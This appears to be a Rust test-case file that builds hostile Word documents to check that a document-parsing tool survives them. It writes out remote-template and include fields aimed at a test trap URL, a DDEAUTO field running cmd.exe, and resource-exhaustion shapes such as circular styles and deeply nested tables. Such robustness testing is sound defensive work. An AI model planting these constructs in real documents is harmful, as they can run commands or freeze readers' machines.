//! I2: parts of Word documents.

use super::{
    archive::{Entry, Kind, archive},
    stage::{Case, SMALLER, WORDS, Wanted, case},
};

/// A Word document, what its relationships are, and what else lies in it.
fn word(inside: &str, relations: &str, parts: &[(&str, &str)]) -> Vec<u8> {
    let kind = Kind::Docx;
    let mut entries = vec![kind.entry(&kind.xml("", inside))];
    let relations = format!("<Relationships>{relations}</Relationships>");
    entries.push(Entry::deflated(
        "word/_rels/document.xml.rels",
        relations.as_bytes(),
    ));
    for (name, text) in parts {
        entries.push(Entry::deflated(name, text.as_bytes()));
    }
    archive(&entries)
}

pub fn cases() -> Vec<Case> {
    const NAME: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let file = "a.docx";
    let text = Wanted::Text(WORDS);
    let p = |words: &str| Kind::Docx.paragraph(words);
    vec![
        case("a template from elsewhere", file, text, move |place| {
            let trap = &place.trap;
            let out = |sort: &str| {
                format!(
                    "<Relationship Id=\"{sort}\" Type=\"a/{sort}\" Target=\"{trap}{sort}\" TargetMode=\"External\"/>"
                )
            };
            let sorts = [
                "attachedTemplate",
                "image",
                "oleObject",
                "frame",
                "subDocument",
                "aFChunk",
                "styles",
                "comments",
                "footnotes",
                "mailMergeSource",
                "settings",
                "hyperlink",
            ];
            let relations: String = sorts.iter().map(|sort| out(sort)).collect();
            let inside = format!(
                "<w:altChunk r:id=\"aFChunk\"/><w:subDoc r:id=\"subDocument\"/><w:p><w:r><w:drawing><a:blip r:link=\"image\"/></w:drawing></w:r><w:r><w:object><o:OLEObject Type=\"Link\" r:id=\"oleObject\"/></w:object></w:r></w:p>{}",
                p(WORDS)
            );
            let settings = format!(
                "<w:settings xmlns:w=\"{NAME}\"><w:attachedTemplate r:id=\"attachedTemplate\"/></w:settings>"
            );
            word(
                &inside,
                &relations,
                &[
                    ("word/settings.xml", &settings),
                    (
                        "word/_rels/settings.xml.rels",
                        &format!("<Relationships>{}</Relationships>", out("attachedTemplate")),
                    ),
                ],
            )
        }),
        case("fields that fetch and run", file, text, move |place| {
            let trap = &place.trap;
            let mut inside = String::new();
            for code in [
                format!("INCLUDEPICTURE \"{trap}a.png\" \\d"),
                format!("INCLUDETEXT \"{trap}a.docx\""),
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"".to_owned(),
                format!("IMPORT \"{trap}\""),
                format!("LINK Excel.Sheet.8 \"{trap}a.xls\""),
                format!("HYPERLINK \"{trap}\""),
            ] {
                inside += &format!(
                    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
                );
            }
            word(&(inside + &p(WORDS)), "", &[])
        }),
        case(
            "100,000 fields in each other",
            file,
            Wanted::Told,
            move |_| {
                let begin =
                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(100_000 / SMALLER);
                word(&format!("<w:p>{begin}</w:p>{}", p(WORDS)), "", &[])
            },
        ),
        case("styles in a circle", file, text, move |_| {
            let style = |id: &str, on: &str| {
                format!(
                    "<w:style w:type=\"paragraph\" w:styleId=\"{id}\"><w:name w:val=\"{id}\"/><w:basedOn w:val=\"{on}\"/></w:style>"
                )
            };
            let styles = format!(
                "<w:styles xmlns:w=\"{NAME}\">{}{}{}</w:styles>",
                style("a", "b"),
                style("b", "a"),
                style("c", "c")
            );
            let inside = "<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr></w:p><w:p><w:pPr><w:pStyle w:val=\"c\"/></w:pPr></w:p>";
            word(
                &format!("{inside}{}", p(WORDS)),
                "<Relationship Id=\"s\" Type=\"a/styles\" Target=\"styles.xml\"/>",
                &[("word/styles.xml", &styles)],
            )
        }),
        case("a chain of 20,000 styles", file, text, move |_| {
            let styles: String = (0..20_000 / SMALLER).map(|n| format!("<w:style w:type=\"paragraph\" w:styleId=\"s{n}\"><w:name w:val=\"s{n}\"/><w:basedOn w:val=\"s{}\"/></w:style>", n + 1)).collect();
            let styles = format!("<w:styles xmlns:w=\"{NAME}\">{styles}</w:styles>");
            let inside =
                "<w:p><w:pPr><w:pStyle w:val=\"s0\"/></w:pPr></w:p>".repeat(20_000 / SMALLER);
            word(
                &format!("{inside}{}", p(WORDS)),
                "<Relationship Id=\"s\" Type=\"a/styles\" Target=\"styles.xml\"/>",
                &[("word/styles.xml", &styles)],
            )
        }),
        case(
            "100,000 comments on one word, in a circle",
            file,
            Wanted::Told,
            move |_| {
                let count = 100_000 / SMALLER;
                let ranges: String = (0..count)
                    .map(|n| format!("<w:commentRangeStart w:id=\"{n}\"/>"))
                    .collect();
                let ends: String = (0..count)
                    .map(|n| format!("<w:commentRangeEnd w:id=\"{n}\"/>"))
                    .collect();
                let comments: String = (0..count).map(|n| format!("<w:comment w:id=\"{n}\"><w:p w14:paraId=\"{n}\"><w:r><w:t>Why?</w:t></w:r></w:p></w:comment>")).collect();
                let threads: String = (0..count)
                    .map(|n| {
                        format!(
                            "<w15:commentEx w15:paraId=\"{n}\" w15:paraIdParent=\"{}\"/>",
                            (n + 1) % count
                        )
                    })
                    .collect();
                let relations = "<Relationship Id=\"c\" Type=\"a/comments\" Target=\"comments.xml\"/><Relationship Id=\"e\" Type=\"a/commentsExtended\" Target=\"ex.xml\"/>";
                word(
                    &format!("<w:p>{ranges}<w:r><w:t>{WORDS}</w:t></w:r>{ends}</w:p>"),
                    relations,
                    &[
                        (
                            "word/comments.xml",
                            &format!("<w:comments xmlns:w=\"{NAME}\">{comments}</w:comments>"),
                        ),
                        (
                            "word/ex.xml",
                            &format!("<w15:commentsEx>{threads}</w15:commentsEx>"),
                        ),
                    ],
                )
            },
        ),
        case("100,000 marks of one note", file, Wanted::Told, move |_| {
            let marks = "<w:r><w:footnoteReference w:id=\"1\"/></w:r>".repeat(100_000 / SMALLER);
            let notes = format!(
                "<w:footnotes xmlns:w=\"{NAME}\"><w:footnote w:id=\"1\">{}</w:footnote></w:footnotes>",
                p(&"A note. ".repeat(1_000))
            );
            word(
                &format!("<w:p>{marks}</w:p>{}", p(WORDS)),
                "<Relationship Id=\"f\" Type=\"a/footnotes\" Target=\"f.xml\"/>",
                &[("word/f.xml", &notes)],
            )
        }),
        case("tables in each other", file, Wanted::Told, move |_| {
            let depth = 160;
            word(
                &("<w:tbl><w:tr><w:tc>".repeat(depth)
                    + &p(WORDS)
                    + &"</w:tc></w:tr></w:tbl>".repeat(depth)),
                "",
                &[],
            )
        }),
        case("boxes in each other", file, Wanted::Told, move |_| {
            let depth = 160;
            word(
                &("<w:p><w:r><w:txbxContent>".repeat(depth)
                    + &p(WORDS)
                    + &"</w:txbxContent></w:r></w:p>".repeat(depth)),
                "",
                &[],
            )
        }),
        case("a row of 200,000 cells", file, Wanted::Told, move |_| {
            word(
                &format!(
                    "<w:tbl><w:tr>{}</w:tr></w:tbl>{}",
                    "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>".repeat(200_000 / SMALLER),
                    p(WORDS)
                ),
                "",
                &[],
            )
        }),
        case(
            "100,000 links that lead to one place",
            file,
            Wanted::Told,
            move |_| {
                let links = "<w:hyperlink r:id=\"h\"><w:r><w:t>a</w:t></w:r></w:hyperlink>"
                    .repeat(100_000 / SMALLER);
                word(
                    &format!("<w:p>{links}</w:p>{}", p(WORDS)),
                    "<Relationship Id=\"h\" Type=\"a/hyperlink\" Target=\"https://kell.example\" TargetMode=\"External\"/>",
                    &[],
                )
            },
        ),
        case(
            "100,000 links over each other",
            file,
            Wanted::Told,
            move |_| {
                let links = "<w:hyperlink r:id=\"h\">".repeat(400);
                let ends = "</w:hyperlink>".repeat(400);
                word(
                    &format!(
                        "<w:p>{}</w:p>{}",
                        format!("{links}<w:r><w:t>a</w:t></w:r>{ends}").repeat(250 / SMALLER),
                        p(WORDS)
                    ),
                    "<Relationship Id=\"h\" Type=\"a/hyperlink\" Target=\"https://kell.example\" TargetMode=\"External\"/>",
                    &[],
                )
            },
        ),
    ]
}
